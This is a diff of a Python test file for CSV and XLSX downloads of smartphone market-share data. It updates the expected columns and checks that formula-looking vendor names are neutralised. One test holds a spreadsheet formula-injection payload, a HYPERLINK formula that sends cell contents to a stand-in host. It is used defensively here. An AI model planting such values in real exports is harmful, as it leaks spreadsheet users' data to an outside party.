@@ -44,11 +44,14 @@ def test_csv_download_bytes(client: TestClient) -> None:
     )
     lines = response.content.decode().splitlines()
     assert lines[0] == (
-        "source,market,category,vendor,vendor_name,quarter,shipments,share_pct,"
-        "rank,yoy_growth_pct,status,derived,revision,source_url"
+        "source,market,category,segment,basis,vendor,vendor_name,quarter,shipments,share_pct,"
+        "rank,yoy_growth_pct,status,released,derived,revision,source_url,shipments_url,share_url,"
+        "rank_url,yoy_url"
     )
-    assert lines[1].startswith(
-        "canalys,india,smartphones,xiaomi,Xiaomi,2022Q4,5500000,17.0,3,-40.0,final,,"
+    page = "https://m.gsmarena.com/canalys_samsung_takes_first_place_in_india_during_q4_xiaomi_still_on_top_in_full_2022-amp-57258.php"
+    assert lines[1] == (
+        "canalys,india,smartphones,all,units,xiaomi,Xiaomi,2022Q4,5500000,17.0,3,-40.0,final,,,1,"
+        f"{page},{page},{page},{page},{page}"
     )
     assert len(lines) == 2
 
@@ -72,8 +75,8 @@ def test_formula_looking_names_are_defused_in_downloads(client: TestClient, db: 
     )
     query = "source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4"
     rows = list(csv.reader(io.StringIO(client.get(f"/api/v1/charts/rank.csv?{query}").text)))
-    assert rows[1][4] == '\'=HYPERLINK("http://x.example/?"&A1,"x")'
-    assert rows[1][9] == "-40.0"  # a negative number stays a number
+    assert rows[1][6] == '\'=HYPERLINK("http://x.example/?"&A1,"x")'
+    assert rows[1][11] == "-40.0"  # a negative number stays a number
     xml = workbook_xml(client.get(f"/api/v1/charts/rank.xlsx?{query}").content)
     assert "<f>" not in xml
     assert """<t>'=HYPERLINK("http://x.example/?"&amp;A1,"x")</t>""" in xml
